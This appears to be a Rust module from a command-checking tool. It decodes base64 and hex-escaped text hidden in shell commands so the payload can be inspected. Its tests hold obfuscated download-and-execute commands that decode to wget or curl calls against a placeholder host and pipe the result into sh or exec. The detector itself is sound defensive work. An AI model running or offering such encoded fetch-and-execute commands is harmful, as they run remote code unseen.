//! Commands that are hidden: `echo d2dldC… | base64 -d | sh`, `printf '\x77\x67…'`.

/// The shortest word that is decoded, in bytes. Shorter words may be anything, and a command with a URL is longer.
const SHORTEST: usize = 24;

/// Returns the texts that are encoded in a command which decodes base64. Takes time linear in the command.
pub(super) fn payloads(text: &str) -> impl Iterator<Item = String> + '_ {
    let decodes = ["base64", "b64decode", "Base64"]
        .iter()
        .any(|name| text.contains(name));
    let words = decodes.then(|| text.split(|c: char| !is_digit(c) && c != '='));
    let in_base64 = words
        .into_iter()
        .flatten()
        .filter(|word| word.len() >= SHORTEST)
        .filter_map(decoded);
    in_base64.chain(unescaped(text))
}

/// The text with `\x77` as the characters that they stand for, if that is text.
fn unescaped(text: &str) -> Option<String> {
    let escaped = text.split("\\x").count() > SHORTEST / 4;
    let mut bytes = Vec::new();
    let mut parts = text.split("\\x").filter(|_| escaped);
    bytes.extend_from_slice(parts.next()?.as_bytes());
    for part in parts {
        let digits = part.get(..2);
        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(byte) => {
                bytes.push(byte);
                bytes.extend_from_slice(&part.as_bytes()[2..]);
            }
            None => bytes.extend_from_slice(part.as_bytes()),
        }
    }
    text_of(bytes)
}

fn is_digit(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '+' || c == '/'
}

/// Returns the text that a word encodes; `None` if the decoded bytes are no text.
pub(crate) fn decoded(word: &str) -> Option<String> {
    let digits = word.trim_end_matches('=');
    let mut bytes = Vec::with_capacity(digits.len() / 4 * 3 + 2);
    for group in digits.as_bytes().chunks(4) {
        let mut bits = 0;
        for digit in group {
            bits = bits << 6 | value(*digit)?;
        }
        let missing = 4 - group.len();
        let [_, three @ ..] = (bits << (6 * missing)).to_be_bytes();
        bytes.extend_from_slice(three.get(..3 - missing.min(2))?);
    }
    text_of(bytes)
}

fn text_of(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let is_text = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    text.chars().all(is_text).then_some(text)
}

fn value(digit: u8) -> Option<u32> {
    let value = match digit {
        b'A'..=b'Z' => digit - b'A',
        b'a'..=b'z' => digit - b'a' + 26,
        b'0'..=b'9' => digit - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => return None,
    };
    Some(u32::from(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_what_is_encoded() {
        for (text, expected) in [
            (
                "echo d2dldCBodHRwOi8vYS5leGFtcGxlL3g= | base64 -d | sh",
                &["wget http://a.example/x"][..],
            ),
            (
                "python -c \"exec('Y3VybCBodHRwOi8vYS5leGFtcGxlL3h5'.decode('base64'))\"",
                &["curl http://a.example/xy"],
            ),
            (
                "base64 -d<<<'Y3VybCBodHRwOi8vYS5leGFtcGxlL3h5eg=='",
                &["curl http://a.example/xyz"],
            ),
            ("echo d2dldCBodHRwOi8vYS5leGFtcGxlL3g= | sh", &[]),
            (
                "printf '\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2fa.example/\\x78' | xargs wget",
                &["printf 'http://a.example/x' | xargs wget"],
            ),
            (
                "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > x",
                &[],
            ),
            ("base64 AAAAB3NzaC1yc2EAAAADAQABAAABAQ== a=b=c", &[]),
            ("base64 d2dldCBodHRwOi8vYS5leGFtcG=xlL3g", &[]),
        ] {
            let found: Vec<String> = payloads(text).collect();
            assert_eq!(found, expected, "{text}");
        }
    }
}
